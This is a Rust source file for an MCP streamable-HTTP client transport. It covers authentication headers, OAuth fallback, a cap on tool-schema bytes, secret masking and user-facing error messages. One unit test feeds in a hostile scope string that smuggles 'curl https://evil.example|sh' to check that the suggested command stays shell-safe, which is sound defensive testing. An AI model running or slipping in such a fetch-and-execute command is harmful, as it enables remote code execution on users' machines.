//! A server at an address: streamable HTTP, as the official SDK speaks it, over the host's one way out to the web.
//!
//! The SDK sees to sessions, the protocol's headers, events, and their resumption. What may be reached is decided here:
//! the origin that the user configured, this machine and private networks included, and nothing else.

mod client;

use std::collections::HashMap;

use async_trait::async_trait;
use dunlin_host::ForeignError;
use dunlin_host::display::{chain, escape, own_command, shorten};
use dunlin_host::egress::header;
use dunlin_host::limits::MAX_SERVER_MESSAGE_BYTES;
use dunlin_host::mcp::transport::{
    Connect, Connection, Receiver, SendError, Sender, ServerLog, TransportError,
};
use futures::StreamExt;
use futures::stream::FuturesUnordered;
use rmcp::RoleClient;
use rmcp::model::{ClientJsonRpcMessage, ServerJsonRpcMessage, ServerResult};
use rmcp::transport::streamable_http_client::{
    StreamableHttpClientTransport, StreamableHttpClientTransportConfig,
};
use rmcp::transport::{AuthClient, Transport};
use tokio::sync::{mpsc, oneshot};
use tokio::task::JoinHandle;

use self::client::{Client, scope_of};
use super::address::Address;
use super::oauth;
use super::sent::Sent;

/// Messages that wait between the connection and the bridge.
const WAITING_MESSAGES: usize = 16;

/// Bytes of names and schemas of tools that a server may send over one connection, each name counted once: many times what
/// is offered of them.
const MAX_DESCRIBED_BYTES: usize = 16 * 1024 * 1024;

/// Characters of a server's refusal that are repeated.
const MAX_REFUSAL_CHARS: usize = 300;

#[async_trait]
impl Connect for Address {
    async fn connect(&self, _log: &dyn ServerLog) -> Result<Connection, TransportError> {
        let failed = |error: ForeignError| TransportError::Connect(error);
        let mut config = StreamableHttpClientTransportConfig::with_uri(self.url.as_str())
            .custom_headers(self.headers.iter().cloned().collect())
            .max_sse_event_size(MAX_SERVER_MESSAGE_BYTES);
        for (name, value) in &self.headers {
            self.sent.note_header(name.as_str(), value);
        }
        if let Some(key) = self.key.clone() {
            // May wait for the user to unlock a keyring.
            let read = tokio::task::spawn_blocking(move || key.read()).await;
            let read = read.map_err(|error| failed(error.into()))?;
            let (secret, _) = read.map_err(|error| failed(error.into()))?;
            config = config.auth_header(secret.reveal());
            self.sent.note(secret.name(), secret.reveal());
        }
        let client = Client::new(self.egress.clone(), self.url.origin(), self.sent.clone());
        let (to_server, outgoing) = mpsc::channel(WAITING_MESSAGES);
        let (incoming, from_server) = mpsc::channel(WAITING_MESSAGES);
        let mut names = self.headers.iter().map(|(name, _)| name);
        let task = if self.key.is_some() || names.any(|name| *name == header::AUTHORIZATION) {
            let make =
                move || StreamableHttpClientTransport::with_client(client.clone(), config.clone());
            tokio::spawn(carry(make, outgoing, incoming))
        } else {
            let manager = oauth::manager(self).await;
            let manager = manager.map_err(|error| {
                let why = self.sent.mask(chain(&error));
                failed(StoredLogin(why).into())
            })?;
            let client = AuthClient::new(client, manager);
            let make =
                move || StreamableHttpClientTransport::with_client(client.clone(), config.clone());
            tokio::spawn(carry(make, outgoing, incoming))
        };
        Ok(Connection {
            sender: Box::new(Outgoing {
                to_server: Some(to_server),
                name: self.name.clone(),
                sent: self.sent.clone(),
            }),
            receiver: Box::new(Incoming {
                from_server,
                task: Task(task),
            }),
        })
    }
}

/// The tokens of an earlier login are no longer of a kind that works.
#[derive(Debug, thiserror::Error)]
#[error("its stored login does not work: {0}")]
struct StoredLogin(String);

/// A message on its way, and who waits for it to be gone.
type Leaving = (ClientJsonRpcMessage, oneshot::Sender<Result<(), String>>);

/// Carries messages both ways, until nothing more is to be sent: then the session ends at the server, too. Dropping it
/// only cuts the connection.
async fn carry<T: Transport<RoleClient>>(
    make: impl Fn() -> T,
    mut outgoing: mpsc::Receiver<Leaving>,
    incoming: mpsc::Sender<ServerJsonRpcMessage>,
) {
    let mut transport = make();
    let mut has_begun = false;
    let mut leaving = FuturesUnordered::new();
    let mut described = Described::default();
    loop {
        let arriving = async {
            let room = incoming.reserve().await.ok()?;
            let message = transport.receive().await?;
            Some((room, message))
        };
        tokio::select! {
            next = outgoing.recv() => match next {
                Some((message, gone)) => {
                    let sending = transport.send(message);
                    leaving.push(async move {
                        // Whoever waited may be gone.
                        let _ = gone.send(sending.await.map_err(|e| chain(&e)));
                    });
                }
                // Takes leave of the server: the end of the session is part of the protocol.
                None => {
                    let _ = transport.close().await;
                    return;
                }
            },
            Some(()) = leaving.next(), if !leaving.is_empty() => {}
            arrived = arriving => match arrived {
                Some((_, message)) if described.is_too_much(&message) => return,
                Some((room, message)) => {
                    // A server of a later revision knows no handshake and says so. The SDK's transport takes what comes
                    // next for the end of one, so that begins anew.
                    if !has_begun && matches!(message, ServerJsonRpcMessage::Error(_)) {
                        transport = make();
                    }
                    has_begun = true;
                    room.send(message);
                }
                None => break,
            },
        }
    }
    // Why it ended is told to whoever was sending.
    while leaving.next().await.is_some() {}
}

/// What a server has described its tools as, by name. The SDK keeps all that comes, asked for or not, so somebody has to
/// count.
#[derive(Default)]
struct Described {
    sizes: HashMap<String, usize>,
    bytes: usize,
}

impl Described {
    fn is_too_much(&mut self, message: &ServerJsonRpcMessage) -> bool {
        let ServerJsonRpcMessage::Response(response) = message else {
            return false;
        };
        let ServerResult::ListToolsResult(list) = &response.result else {
            return false;
        };
        for tool in &list.tools {
            let schema = serde_json::to_vec(&*tool.input_schema);
            let size = tool.name.len() + schema.map_or(0, |schema| schema.len());
            let before = self.sizes.insert(tool.name.to_string(), size);
            self.bytes = self.bytes + size - before.unwrap_or_default();
        }
        self.bytes > MAX_DESCRIBED_BYTES
    }
}

/// Ends with whoever holds it.
struct Task(JoinHandle<()>);

impl Drop for Task {
    fn drop(&mut self) {
        self.0.abort();
    }
}

struct Outgoing {
    /// `None`: it was closed.
    to_server: Option<mpsc::Sender<Leaving>>,
    name: String,
    /// What must not stand in a refusal that repeats what it was sent.
    sent: Sent,
}

#[async_trait]
impl Sender for Outgoing {
    async fn send(&mut self, message: &str) -> Result<(), SendError> {
        let message = serde_json::from_str(message).map_err(|e| SendError {
            why: format!("cannot be sent this: {e}"),
            is_over: false,
        })?;
        let over = || SendError {
            why: "has closed the connection".to_owned(),
            is_over: true,
        };
        let (gone, is_gone) = oneshot::channel();
        let to_server = self.to_server.as_ref().ok_or_else(over)?;
        to_server.send((message, gone)).await.map_err(|_| over())?;
        match is_gone.await {
            Ok(Ok(())) => Ok(()),
            Ok(Err(why)) => Err(SendError {
                why: said(&self.sent.mask(why), &self.name),
                is_over: true,
            }),
            Err(_) => Err(over()),
        }
    }

    async fn close(&mut self) {
        self.to_server = None;
    }
}

/// The SDK's words for what went wrong, for people.
fn said(why: &str, name: &str) -> String {
    if why.contains("Insufficient scope")
        && let Some(scope) = scope_of(why)
    {
        // A command that somebody will type: it holds nothing that is not a scope, and nothing that a shell would do.
        let is_scope = |c: char| matches!(c, ' ' | '!' | '#'..='[' | ']'..='~');
        let is_plain = scope.len() <= MAX_REFUSAL_CHARS && scope.chars().all(is_scope);
        let command = match is_plain && !scope.trim().is_empty() {
            true => own_command(&["mcp", "login", name, "--scope", &scope]),
            false => own_command(&["mcp", "login", name]),
        };
        return format!("wants more than the login allows: run `{command}`");
    }
    let why = shorten(&escape(why), MAX_REFUSAL_CHARS).into_owned();
    if why.contains("Auth required") || why.contains("HTTP 401") {
        return format!(
            "wants to know who asks: run `{}`, or set api_key in [mcp.servers.{name}]",
            own_command(&["mcp", "login", name])
        );
    }
    format!("cannot be reached: {why}")
}

struct Incoming {
    from_server: mpsc::Receiver<ServerJsonRpcMessage>,
    task: Task,
}

#[async_trait]
impl Receiver for Incoming {
    async fn receive(&mut self) -> Result<String, TransportError> {
        loop {
            let message = self.from_server.recv().await;
            let Some(message) = message else {
                self.task.0.abort();
                return Err(TransportError::Closed);
            };
            // What the SDK has understood it can write again.
            if let Ok(text) = serde_json::to_string(&message) {
                return Ok(text);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tools_without_end_are_too_much() {
        let listed = |name: &str, bytes: usize| -> ServerJsonRpcMessage {
            let schema = serde_json::json!({"type": "object", "x": "y".repeat(bytes)});
            let tool = serde_json::json!({"name": name, "inputSchema": schema});
            let result = serde_json::json!({"tools": [tool]});
            let message = serde_json::json!({"jsonrpc": "2.0", "id": 1, "result": result});
            serde_json::from_value(message).unwrap()
        };
        let mut described = Described::default();
        for _ in 0..40 {
            assert!(!described.is_too_much(&listed("again", 1_000_000)));
        }
        let mut fresh = (0..40).map(|number| listed(&format!("t{number}"), 1_000_000));
        assert!(fresh.any(|message| described.is_too_much(&message)));
    }

    #[test]
    fn what_somebody_will_type_is_harmless() {
        let say = |scope: &str| {
            let why = format!("Insufficient scope: Bearer scope=\"{scope}\"");
            said(&why, "far")
        };
        assert!(say("a b:c").ends_with("run `dunlin mcp login far --scope 'a b:c'`"));
        assert!(say("repo").ends_with("run `dunlin mcp login far --scope repo`"));
        let hostile = say("x'; curl https://evil.example|sh #");
        assert!(
            hostile.ends_with("--scope 'x'\\''; curl https://evil.example|sh #'`"),
            "{hostile}"
        );
        for scope in ["a\nb", "\u{1b}[2J", "ä", " "] {
            assert!(
                say(scope).ends_with("run `dunlin mcp login far`"),
                "{scope}"
            );
        }
    }
}
